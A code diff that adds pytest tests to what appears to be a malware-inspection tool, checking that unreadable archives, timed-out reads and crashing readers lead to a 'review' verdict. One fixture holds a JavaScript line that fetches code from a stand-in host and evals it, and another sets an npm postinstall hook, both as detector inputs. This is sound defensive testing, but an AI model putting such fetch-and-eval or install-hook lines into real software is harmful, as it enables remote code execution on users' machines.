@@ -2,17 +2,21 @@
 
 import gzip
 import io
+import struct
 import zipfile
+from collections.abc import Iterator, Sequence
 from pathlib import Path
 
 import pytest
 
+from sekisho.inspection import pool
+from sekisho.inspection.findings import Findings
 from sekisho.inspection.inspect import inspect
 from sekisho.inspection.intake.gather import gather_bytes
 from sekisho.inspection.judge import judge
 from sekisho.inspection.link import link
-from sekisho.inspection.virtual import Limits
-from support.inspection import Files, Here, inspected
+from sekisho.inspection.virtual import Gap, Limits, VirtualFile
+from support.inspection import Files, Here, inspected, virtual
 
 BROKEN = gzip.compress(b"print(1)\n" * 50)[:-9]
 """A stream that ends early: what it holds is not known."""
@@ -115,3 +119,104 @@ BUNDLES: dict[str, tuple[Files, str]] = {  # what lies there, and the verdict
 @pytest.mark.parametrize(("files", "verdict"), BUNDLES.values(), ids=BUNDLES.keys())
 def test_a_bundle_that_makes_code_is_grave_where_something_leads_to_it(files: Files, verdict: str) -> None:
     assert inspected(files).verdict == verdict
+
+
+RANDOM = bytes(range(256)) * 8
+SHUT = {  # an input that nobody can look into
+    "7z": b"7z\xbc\xaf\x27\x1c" + RANDOM,
+    "rar": b"Rar!\x1a\x07\x01\0" + RANDOM,
+    "tar.zst": b"\x28\xb5\x2f\xfd" + RANDOM,
+    "lz4": b"\x04\x22\x4d\x18" + RANDOM,
+    "cab": b"MSCF" + RANDOM,
+    "deb": b"!<arch>\ndebian-binary   1 0 0 100644 4 `\n2.0\n" + RANDOM,
+    "rpm": b"\xed\xab\xee\xdb" + RANDOM,
+    "cpio": b"070701" + b"0" * 104 + b"a\0",
+    "asar": struct.pack("<4I", 4, 60, 56, 50) + b'{"files":{"x.js":{"size":4,"offset":"0"}}}'.ljust(52) + b"1",
+    "iso": bytes(32769) + b"CD001" + RANDOM,
+    "dmg": RANDOM + b"koly" + bytes(508),
+    "exe": b"MZ\x90\0" + RANDOM,
+    "bin": RANDOM,
+}
+
+
+@pytest.mark.parametrize("kind", SHUT)
+@pytest.mark.parametrize("packed", [False, True], ids=["alone", "in a zip"])
+def test_an_input_that_nobody_can_look_into_is_no_answer(kind: str, packed: bool) -> None:
+    name, data = f"task.{kind}", SHUT[kind]
+    if packed:
+        name, data = "task.zip", zipped(f"task.{kind}", data)
+    read = gather_bytes(name, data)
+    found = judge(read.files, read.gaps, link(read.files, Here()))
+    assert str(found.verdict) == "review"
+    assert found.gaps[0].why.endswith("nothing in it was read")
+
+
+def zipped(name: str, data: bytes) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        archive.writestr(name, data)
+    return out.getvalue()
+
+
+BESIDE = {  # where an archive of a kind that is not unpacked lies, what else there is, and whether it counts
+    "on top, beside a note": ("task.7z", {"notes.txt": b"The password is the name of the company.\n"}, True),
+    "on top of the one folder": ("task/a.7z", {"task/app.py": b"print(1)\n"}, True),
+    "far below": ("tests/data/a.7z", {"app.py": b"print(1)\n"}, False),
+    "far below, and a manual tells of it": ("x/data/a.7z", {"README.md": b"Unpack a.7z and open it.\n"}, True),
+}
+
+
+@pytest.mark.parametrize(("place", "others", "counts"), BESIDE.values(), ids=BESIDE)
+def test_an_archive_that_is_not_unpacked_counts_where_somebody_will(place: str, others: Files, counts: bool) -> None:
+    found = inspected({**others, place: SHUT["7z"]})
+    assert (str(found.verdict) == "review") is counts
+
+
+@pytest.mark.parametrize(("name", "data"), [("a.png", b"\x89PNG" + RANDOM), ("a.mp4", b"\0\0\0\x18ftyp" + RANDOM)])
+def test_a_picture_is_no_archive(name: str, data: bytes) -> None:
+    assert str(inspected({name: data}).verdict) == "no_chain_found"
+
+
+@pytest.mark.parametrize(("limit", "value"), [("_ALTOGETHER", -1.0), ("_DEATHS", -1)])
+def test_files_that_nobody_had_time_for_are_no_answer(
+    limit: str, value: float, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    """Whoever sends a hundred slow files would else decide that the hundred and first is not read."""
+    monkeypatch.setattr(pool, limit, value)
+    (tmp_path / "package.json").write_text('{"scripts": {"postinstall": "node x.js"}}')
+    found = inspect(tmp_path)
+    assert (str(found.verdict), found.gaps[0].file) == ("review", "package.json")
+
+
+class Dying(Here):
+    """Readers that die of every file."""
+
+    def read(self, tasks: Sequence[pool.Task]) -> Iterator[Findings]:
+        return (Findings("unread", gaps=(Gap(task.file.path, 0, "could not be read"),)) for task in tasks)
+
+
+@pytest.mark.parametrize(
+    ("name", "counts"), [("a.js", True), (".vscode/tasks.json", True), ("data.json", False), ("a.csv", False)]
+)
+def test_a_program_or_setting_that_ends_its_reader_is_no_answer(name: str, counts: bool) -> None:
+    files = (VirtualFile(name, b"1"),)
+    assert (str(judge(files, (), link(files, Dying())).verdict) == "review") is counts
+
+
+BEGINNINGS = [b"GIF89a=1;", b"MSCF=1;", b"Rar!=1;", b"070701;", b"OTTO/*\xff\0\x01*/=1;"]
+
+
+@pytest.mark.parametrize("start", BEGINNINGS)
+def test_a_program_that_begins_like_a_picture_or_archive_is_read(start: bytes) -> None:
+    """As the name of a variable, or a number; in a remark the rest of a picture may follow."""
+    program = b"\nfetch('https://a.invalid').then(r => r.text()).then(eval)\n"
+    assert str(inspected({"a.js": start + program}).verdict) == "block"
+
+
+@pytest.mark.parametrize(("effort", "matter"), [(10**10, 0), (5 * 10_020, 15), (0, 20)])
+def test_holes_beyond_what_can_be_searched_for_count(effort: int, matter: int, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Tens of thousands of broken archives beside long settings would be searched for one by one, for hours."""
+    monkeypatch.setattr("sekisho.inspection.unread._EFFORT", effort)
+    files = virtual({"a.json": '{"a": "' + "b" * 10_000 + '"}', **{f"d/{n:02}.gz": BROKEN for n in range(20)}})
+    gaps = tuple(Gap(file.path, 0, "cannot be read") for file in files if file.path.startswith("d/"))
+    assert judge(files, gaps, link(files, Here())).unread_input == matter
